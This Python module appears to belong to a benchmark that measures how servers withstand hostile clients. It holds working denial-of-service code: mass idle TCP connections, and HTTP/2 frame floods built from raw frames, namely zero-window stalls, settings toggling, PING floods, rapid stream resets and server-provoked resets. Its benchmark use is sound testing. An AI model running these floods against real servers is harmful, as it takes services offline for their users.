"""What clients that mean no good do over TCP."""

from __future__ import annotations

import contextlib
import struct
from collections.abc import Callable

from bench.attacks.targets import Target

CONNECTIONS = 900
H2_CONNECTIONS = 10
STREAMS = 1000
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 1, 3, 4, 6, 8
INITIAL_WINDOW_SIZE = 4

Attack = Callable[[Target], object]
"""What it returns lasts until the measurement is over."""


def nothing(_: Target) -> object:
    """What the rest is compared with."""
    return None


def many(beginning: bytes) -> Attack:
    """Connections that say this, and then nothing."""

    def attack(target: Target) -> object:
        opened = [target.connect() for _ in range(CONNECTIONS)]
        for stream in opened:
            with contextlib.suppress(OSError):
                stream.sendall(beginning)
        return opened

    return attack


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """A frame of HTTP/2 (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def settings(initial_window: int) -> bytes:
    """SETTINGS with SETTINGS_INITIAL_WINDOW_SIZE."""
    return frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, initial_window))


def get(stream: int, path: str) -> bytes:
    """A request: indexed fields of the static table, and literals without Huffman coding."""
    path_field = b"\x04" + bytes([len(path)]) + path.encode()
    block = b"\x82\x87" + path_field + b"\x01\x01a"
    return frame(HEADERS, 0x05, stream, block)


def requests(path: str) -> bytes:
    """As many requests as there may be at a time."""
    return b"".join(get(2 * number + 1, path) for number in range(STREAMS))


def idle_h2(target: Target) -> object:
    """HTTP/2 connections without requests."""
    opened = [target.connect_h2() for _ in range(100)]
    for stream in opened:
        stream.sendall(PREFACE + settings(65_535))
    return opened


def stalled(path: str, window: int) -> Attack:
    """Responses that the windows of their streams hold back, on several connections."""

    def attack(target: Target) -> object:
        opened = [target.connect_h2() for _ in range(H2_CONNECTIONS)]
        for stream in opened:
            stream.sendall(PREFACE + settings(window) + requests(path))
        return opened

    return attack


def repeated(start: bytes, again: Callable[[int], bytes], times: int) -> Attack:
    """The same again and again, until the server ends the connection."""

    def attack(target: Target) -> object:
        stream = target.connect_h2()
        with contextlib.suppress(OSError):
            stream.sendall(PREFACE + settings(0) + start)
            for number in range(times):
                stream.sendall(again(number))
        return stream

    return attack


def toggled(_: int) -> bytes:
    """The window opens and closes."""
    return settings(1) + settings(0)


def ping(_: int) -> bytes:
    """PING."""
    return frame(PING, 0, 0, bytes(8))


def reset(number: int) -> bytes:
    """A request that is given up."""
    stream = 2 * number + 1
    return get(stream, "/bytes/1000") + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def made_to_reset(number: int) -> bytes:
    """A request, and what makes the server give it up."""
    stream = 2 * number + 1
    return get(stream, "/bytes/1000") + frame(WINDOW_UPDATE, 0, stream, bytes(4))
